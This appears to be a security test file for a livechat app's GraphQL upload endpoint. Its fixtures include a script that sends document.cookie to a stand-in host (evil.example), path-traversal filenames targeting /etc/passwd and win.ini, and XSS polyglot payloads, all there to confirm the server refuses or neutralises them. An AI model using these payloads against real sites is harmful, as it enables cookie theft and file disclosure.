import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { registerCustomer, startSession, type Actor } from '../support/actors';
import { createTestDatabase, errorCode, startTestApp, type TestApp, type TestDatabase } from '../support/test-app';
import { multipartRequest, type MultipartOptions, type UploadFile } from '../support/upload';
import { expectNothingStored } from './hostile';

/** A plain string: test/gql is generated, and this file's operations are not in it. */
const SendFile = `
  mutation SecuritySendFile($input: SendFileMessageInput!) {
    sendFileMessage(input: $input) {
      id
      file {
        id
        filename
        mimeType
        url
      }
    }
  }
`;

let db: TestDatabase;
let app: TestApp;
let uploadDir: string;
let customer: Actor;
let sessionId: string;

beforeAll(async () => {
  db = await createTestDatabase();
  uploadDir = fs.mkdtempSync(path.join(os.tmpdir(), 'livechat-security-'));
  app = await startTestApp(db.url, { UPLOAD_DIR: uploadDir, MAX_FILE_SIZE: String(64 * 1024), MESSAGE_RATE_LIMIT: '0' });
  customer = await registerCustomer(app.httpUrl, 'Pengunggah');
  sessionId = await startSession(app.httpUrl, customer);
});

afterAll(async () => {
  await app?.close();
  await db?.drop();
  if (uploadDir) fs.rmSync(uploadDir, { recursive: true, force: true });
});

type SendFileResult = { sendFileMessage: { id: string; file: { id: string; filename: string; mimeType: string; url: string } | null } };

const TEXT = Buffer.from('Nomor izin: 123\n');
const send = (file: UploadFile | null, options: MultipartOptions = {}) =>
  multipartRequest<SendFileResult, unknown>(app.httpUrl, SendFile, { input: { sessionId, file: null } }, 'variables.input.file', file, { token: customer.token, ...options });

/** Nothing written anywhere but UPLOAD_DIR's own generated names. */
const filesOutsideIds = () => fs.readdirSync(uploadDir).filter((name) => !/^[0-9a-f-]{36}$/.test(name));

describe('refused uploads store nothing', () => {
  it.each([
    ['an HTML page named .png and declared image/png', { content: Buffer.from('<html><script>alert(1)</script></html>'), filename: 'foto.png', type: 'image/png' }, 'UNSUPPORTED_FILE_TYPE'],
    ['a JavaScript file named .txt', { content: Buffer.from('<script>fetch("//evil.example/"+document.cookie)</script>'), filename: 'a.txt', type: 'text/plain' }, 'UNSUPPORTED_FILE_TYPE'],
  ] as [string, UploadFile, string][])('%s: %s', async (_name, file, code) => {
    const before = fs.readdirSync(uploadDir).sort();
    await expectNothingStored(app, async () => {
      expect(errorCode(await send(file))).toBe(code);
    });
    expect(fs.readdirSync(uploadDir).sort()).toEqual(before);
  });

  // The multipart spec leaves unmapped parts to the server: graphql-upload discards them unread
  // (maxFiles: 1 stops the parser at the second part), so they cost bandwidth, never storage.
  it('an extra file part that the map does not place: ignored, only the mapped file is kept', async () => {
    const before = fs.readdirSync(uploadDir).length;
    const response = await send({ content: TEXT, filename: 'satu.txt' }, { extraFiles: { 1: { content: Buffer.from('selundupan'), filename: 'selundupan.txt' } } });
    expect(response.errors).toBeUndefined();
    expect(response.data?.sendFileMessage.file?.filename).toBe('satu.txt');
    expect(fs.readdirSync(uploadDir)).toHaveLength(before + 1);
    const stored = await app.deps.orm.em.fork().getConnection().execute("select count(*)::int as n from file_attachment where filename = 'selundupan.txt'");
    expect(stored[0].n).toBe(0);
  });
});

describe('hostile file names', () => {
  it.each([
    ['../../etc/passwd', 'passwd.txt'],
    ['..\\..\\windows\\win.ini', 'win.ini.txt'],
    ['....//....//rahasia.txt', 'rahasia.txt'],
    ['/absolute/path/izin.txt', 'izin.txt'],
    ['..', 'file.txt'],
    ['.htaccess', 'htaccess.txt'],
  ])('%j is stored as %j, under a generated id inside UPLOAD_DIR', async (filename, stored) => {
    const response = await send({ content: TEXT, filename, type: 'text/plain' });
    expect(response.errors).toBeUndefined();
    const file = response.data!.sendFileMessage.file!;
    expect(file.filename).toBe(stored);
    expect(fs.existsSync(path.join(uploadDir, file.id))).toBe(true);
    expect(filesOutsideIds()).toEqual([]);
    expect(fs.existsSync(path.resolve(uploadDir, '..', 'passwd'))).toBe(false);
  });
});

describe('a GIF/HTML polyglot', () => {
  it('is kept as image/gif and served so that no browser runs it', async () => {
    const polyglot = Buffer.concat([Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1'), Buffer.from('<html><script>alert(document.domain)</script></html>')]);
    const response = await send({ content: polyglot, filename: 'x.html', type: 'text/html' });
    expect(response.errors).toBeUndefined();
    const file = response.data!.sendFileMessage.file!;
    expect(file.mimeType).toBe('image/gif');
    expect(file.filename).toBe('x.gif'); // it kept x.html, which a download would save as a page
    const link = new URL(file.url);
    const download = await fetch(new URL(link.pathname + link.search, app.httpUrl));
    expect(download.status).toBe(200);
    expect(download.headers.get('content-type')).toBe('image/gif');
    expect(download.headers.get('x-content-type-options')).toBe('nosniff');
    expect(download.headers.get('content-security-policy')).toContain('sandbox');
  });
});

// An upload kept the extension it came with, whatever its bytes were.
describe('the stored name follows the type sniffed from the bytes', () => {
  const gif = Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1');
  it.each([
    ['text named page.html', 'page.html.txt', TEXT, 'page.html'],
    ['text named catatan.TXT', 'catatan.TXT', TEXT, 'catatan.TXT'],
    ['a GIF named foto.png', 'foto.gif', gif, 'foto.png'],
    ['a GIF named lampiran', 'lampiran.gif', gif, 'lampiran'],
    ['a GIF named Foto.GIF', 'Foto.GIF', gif, 'Foto.GIF'],
  ])('%s is stored as %j', async (_name, stored, content, filename) => {
    const response = await send({ content, filename, type: 'application/octet-stream' });
    expect(response.errors).toBeUndefined();
    expect(response.data!.sendFileMessage.file!.filename).toBe(stored);
  });
});
